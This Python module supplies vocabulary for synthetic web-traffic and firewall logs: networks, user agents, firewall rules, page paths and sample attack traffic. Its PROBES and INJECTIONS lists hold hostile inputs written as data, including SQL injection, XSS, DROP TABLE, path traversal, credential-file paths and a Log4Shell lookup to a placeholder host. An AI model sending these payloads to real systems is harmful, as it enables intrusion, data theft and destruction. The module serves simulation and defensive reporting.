"""The vocabulary of the invented traffic: networks, browsers, rules, paths.

Networks carry well-known names because a report with invented ones says nothing; their addresses are made up, and
who attacks has an AS number reserved for documentation (RFC 5398).
"""

from typing import Final, NamedTuple


def _words(text: str) -> list[str]:
    return text.split()


class Network(NamedTuple):
    """An autonomous system.

    Attributes:
        v4: First two octets of the addresses that its clients get here.
        weight: Share of the clients, relative to the others'.
    """

    asn: int
    description: str
    country: str
    v4: str
    weight: float


NETWORKS: Final = (
    Network(7922, "COMCAST-7922", "us", "73.162", 14),
    Network(701, "UUNET", "us", "108.28", 8),
    Network(21928, "T-MOBILE-AS21928", "us", "172.58", 9),
    Network(3320, "DTAG Internet service provider operations", "de", "84.140", 7),
    Network(6805, "TDDE-ASN1", "de", "77.10", 3),
    Network(2856, "BT-UK-AS BTnet UK Regional network", "gb", "86.152", 6),
    Network(5607, "BSKYB-BROADBAND-AS", "gb", "90.196", 4),
    Network(3215, "France Telecom - Orange", "fr", "92.140", 5),
    Network(12322, "PROXAD Free SAS", "fr", "82.64", 3),
    Network(6830, "LIBERTYGLOBAL Liberty Global B.V.", "nl", "62.163", 3),
    Network(55836, "RELIANCEJIO-IN Reliance Jio Infocomm Limited", "in", "49.36", 7),
    Network(45609, "BHARTI-MOBILITY-AS-AP Bharti Airtel Ltd. AS for GPRS Service", "in", "106.200", 4),
    Network(28573, "Claro NXT Telecomunicacoes Ltda", "br", "187.20", 5),
    Network(4713, "OCN NTT DOCOMO BUSINESS,Inc.", "jp", "118.1", 4),
    Network(4766, "KIXS-AS-KR Korea Telecom", "kr", "121.130", 3),
    Network(1221, "ASN-TELSTRA Telstra Limited", "au", "101.160", 3),
    Network(12389, "ROSTELECOM-AS", "ru", "95.24", 2),
    Network(9121, "TTNET Türk Telekom", "tr", "88.224", 2),
    Network(45899, "VNPT-AS-VN VNPT Corp", "vn", "113.160", 2),
    Network(36947, "ALGTEL-AS", "dz", "105.96", 1),
    Network(15169, "GOOGLE", "us", "66.249", 2),
    Network(8075, "MICROSOFT-CORP-MSN-AS-BLOCK", "us", "40.77", 2),
    Network(16509, "AMAZON-02", "us", "54.210", 3),
    Network(14061, "DIGITALOCEAN-ASN", "us", "167.99", 2),
    Network(24940, "HETZNER-AS", "de", "95.216", 2),
    Network(16276, "OVH", "fr", "51.68", 2),
    Network(9009, "M247", "ro", "146.70", 1),
)
ATTACKERS: Final = (
    Network(64499, "NIGHTJAR-HOSTING", "sc", "185.220", 6),
    Network(64502, "OFFSHORE-VPS Offshore Servers Ltd", "pa", "45.155", 3),
    Network(64510, "GREY-COLO-AS", "md", "194.26", 2),
)

IP_CLASSES: Final = {
    "noRecord": 74.0,
    "unknown": 9.0,
    "badHost": 3.0,
    "scan": 4.0,
    "tor": 1.0,
    "searchEngine": 4.0,
    "monitoringService": 3.0,
    "allowlist": 2.0,
}

COLOS: Final = _words("""IAD EWR ORD DFW LAX SJC FRA LHR CDG AMS BOM DEL GRU NRT ICN SYD DME IST SIN MIA""")

BROWSERS: Final = (
    *(
        f"Mozilla/5.0 ({system}) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/{version}.0.0.0 Safari/537.36"
        for version in (148, 147, 146, 139)
        for system in (
            "Windows NT 10.0; Win64; x64",
            "Macintosh; Intel Mac OS X 10_15_7",
            "X11; Linux x86_64",
            "Linux; Android 10; K",
        )
    ),
    *(
        f"Mozilla/5.0 (iPhone; CPU iPhone OS {ios} like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) "
        f"Version/{ios.split('_')[0]}.0 Mobile/15E148 Safari/604.1"
        for ios in ("18_6", "18_5", "17_7", "26_2")
    ),
    *(f"Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:{v}.0) Gecko/20100101 Firefox/{v}.0" for v in (149, 148, 140)),
    "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
    "Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)",
    "FordPass/5.22 (Android 15; Größe=XL)",
    "okhttp/4.12.0",
    "",
)
TOOLS: Final = (
    "python-requests/2.32.3",
    "Go-http-client/1.1",
    "curl/8.9.1",
    "Fuzz Faster U Fool v2.1.0-dev",
    "sqlmap/1.8.9#stable (https://sqlmap.org)",
    "Mozilla/5.0 zgrab/0.x",
    "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:Port Check)",
    "masscan/1.3 (https://github.com/robertdavidgraham/masscan)",
)


class Rule(NamedTuple):
    """A firewall rule as its matches show it.

    Attributes:
        target: What it looks at: a group of `corpus_tables.targets`.
        outcomes: (edge status, origin status), the likeliest first; origin 0 means that it was not reached.
        stage: `last` decides the request (MatchIndex 0), `earlier` only logged before it, `burst` is the attack's.
    """

    source: str
    action: str
    rule_id: str
    description: str
    ref: str
    target: str
    outcomes: tuple[tuple[int, int], ...]
    weight: float
    stage: str = "last"


_PASSED = ((200, 200), (200, 200), (304, 304), (301, 301), (404, 404), (500, 500), (200, 0))
_STOPPED = ((403, 0),)

RULES: Final = (
    Rule(
        "firewallmanaged", "block", "6179ae15870a4bb7b2d480d4843b323c",
        "SQLi - Comparison - 2", "", "inject", _STOPPED, 11,
    ),
    Rule(
        "firewallmanaged", "block", "882b37d6bd5f4bf2a3cdb374d503ded0",
        "XSS, HTML Injection - Script Tag", "", "inject", _STOPPED, 6,
    ),
    Rule(
        "firewallmanaged", "block", "000000000046a51478a742e67713c9f1",
        "React - RCE - CVE:CVE-2025-55182", "", "api", _STOPPED, 4,
    ),
    Rule(
        "firewallmanaged", "log", "b5c9d2ac1c7e4a3db4dd9ac40b1f0e1c",
        "Anomaly:Header:User-Agent - Missing", "", "any", _PASSED, 9, "earlier",
    ),
    Rule(
        "firewallmanaged", "managedchallenge", "0242110ae62e44028a13bf4834780914",
        "Vulnerability scanner activity", "", "scan", _STOPPED, 9,
    ),
    Rule(
        "firewallcustom", "block", "c3b1f0a2d4e54f6a8b7c9d0e1f2a3b4c",
        'Block "/.env" and friends — never legitimate', "block-dotfiles", "scan", _STOPPED, 12,
    ),
    Rule(
        "firewallcustom", "managedchallenge", "e1d2c3b4a5968778695a4b3c2d1e0f10",
        "Challenge sign-in from outside the sales regions", "signin-regions", "login", _STOPPED, 13,
    ),
    Rule(
        "firewallcustom", "managedchallengenoninteractivesolved", "e1d2c3b4a5968778695a4b3c2d1e0f10",
        "Challenge sign-in from outside the sales regions", "signin-regions", "login", _PASSED, 6,
    ),
    Rule(
        "firewallcustom", "log", "77aa0c1d2e3f40516273849506a7b8c9",
        "Log all dealers' API calls", "dealer-api-log", "api", _PASSED, 14,
    ),
    Rule(
        "firewallcustom", "log", "77aa0c1d2e3f40516273849506a7b8c9",
        "Log all dealers' API calls", "dealer-api-log", "api", _PASSED, 12, "earlier",
    ),
    Rule(
        "firewallcustom", "skip", "4f0c2b7de1a94a66a6c1c5f2aa03d917",
        "Skip managed rules for the uptime probe", "skip-probe", "any", _PASSED, 7,
    ),
    Rule(
        "firewallcustom", "skip", "4f0c2b7de1a94a66a6c1c5f2aa03d917",
        "Skip managed rules for the uptime probe", "skip-probe", "any", _PASSED, 4, "earlier",
    ),
    Rule(
        "firewallcustom", "jschallenge", "9a8b7c6d5e4f30211203f4e5d6c7b8a9",
        "JS challenge for old browsers", "", "any", ((503, 0),), 7,
    ),
    Rule(
        "firewallcustom", "jschallengesolved", "9a8b7c6d5e4f30211203f4e5d6c7b8a9",
        "JS challenge for old browsers", "", "any", _PASSED, 3,
    ),
    Rule(
        "ratelimit", "block", "5d1e0f7c6b5a49388271605f4e3d2c1b",
        "Sign-in: 20 requests in 10 s", "login-rate", "login", ((429, 0),), 9,
    ),
    Rule(
        "ratelimit", "log", "0b1c2d3e4f5061728394a5b6c7d8e9fa",
        "API: 300 requests in 60 s (observe)", "api-rate-observe", "api", _PASSED, 5,
    ),
    Rule("bic", "block", "bic", "Browser integrity check", "", "any", _STOPPED, 4),
    Rule("hot", "block", "hot", "Hotlink protection", "", "asset", _STOPPED, 3),
    Rule("uablock", "block", "5e0b1a9a3c7d4e2f8a6b4c2d0e1f3a5b", "Old scrapers", "", "any", _STOPPED, 3),
    Rule("country", "challenge", "country", "", "", "login", _STOPPED, 4),
    Rule("country", "challengesolved", "country", "", "", "login", _PASSED, 1),
    Rule("asn", "block", "asn", "", "", "any", _STOPPED, 3),
    Rule("iprange", "allow", "iprange", "Office egress", "", "any", _PASSED, 4),
    Rule("securitylevel", "managedchallenge", "badscore", "Bad IP reputation", "", "any", _STOPPED, 6),
    Rule(
        "botmanagement", "managedchallenge", "5a0e1d2c3b4a59687786958473625140",
        "Likely automated", "", "asset", _STOPPED, 6,
    ),
    Rule(
        "l7ddos", "block", "fdfdac75430c4c47a959592f0aa5e68a",
        "HTTP requests with unusual HTTP headers or URI path (signature #57)", "", "any", _STOPPED, 3,
    ),
    Rule(
        "apishieldschemavalidation", "log", "a1b2c3d4e5f60718293a4b5c6d7e8f90",
        "Schema violation: /api/v2/orders", "", "api", _PASSED, 3,
    ),
    Rule(
        "ratelimit", "block", "5d1e0f7c6b5a49388271605f4e3d2c1b",
        "Sign-in: 20 requests in 10 s", "login-rate", "login", ((429, 0),), 55, "burst",
    ),
    Rule(
        "l7ddos", "block", "ed651449c4a54f4b99c6e3bf863134d5",
        "Adaptive DDoS Protection for Origins - HTTP GET flood", "", "login", _STOPPED, 40, "burst",
    ),
    Rule(
        "firewallcustom", "managedchallenge", "e1d2c3b4a5968778695a4b3c2d1e0f10",
        "Challenge sign-in from outside the sales regions", "signin-regions", "login", _STOPPED, 12, "burst",
    ),
)  # fmt: skip

STAGES: Final = ("last", "earlier", "burst")
TARGETS: Final = ("any", "asset", "login", "api", "scan", "inject")

PAGES: Final = _words(
    """/ /cars /cars/compare /dealers /offers /news /faq /kontakt /über-uns /search /cart /checkout"""
)
PRODUCTS: Final = ["focus", "kuga", "puma", "mustang-mach-e", "ranger", "transit-custom", "explorer", "bronco", "capri"]
LOGINS: Final = ["/login", "/account/sign-in", "/oauth/token", "/wp-login.php", "/api/v1/auth/session", "/admin/login"]
PROBES: Final = _words(
    """/.env /.git/config /wp-content/plugins/hellopress/wp_filemanager.php /phpmyadmin/index.php /actuator/env
    /vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php /cgi-bin/luci/;stok=/locale /boaform/admin/formLogin
    /../../etc/passwd /.aws/credentials /server-status /autodiscover/autodiscover.json /HNAP1/ /solr/admin/info"""
)
INJECTIONS: Final = (
    "?id=1%27%20OR%20%271%27=%271",
    "?q=<script>alert(document.cookie)</script>",
    '?q="><img src=x onerror=alert(1)>',
    "?sort=(SELECT+1+FROM+pg_sleep(5))",
    "?file=..%5C..%5Cwindows%5Cwin.ini",
    "?name=${jndi:ldap://198.51.100.7:1389/a}",
    "?cat=\\u0027;DROP TABLE orders;--",
)

HOST_LABELS: Final = _words(
    """www api shop dealer img cdn auth m static search checkout account media tracking parts service finance
    build-and-price status docs events graph push live lead crm feedback video preview stage"""
)
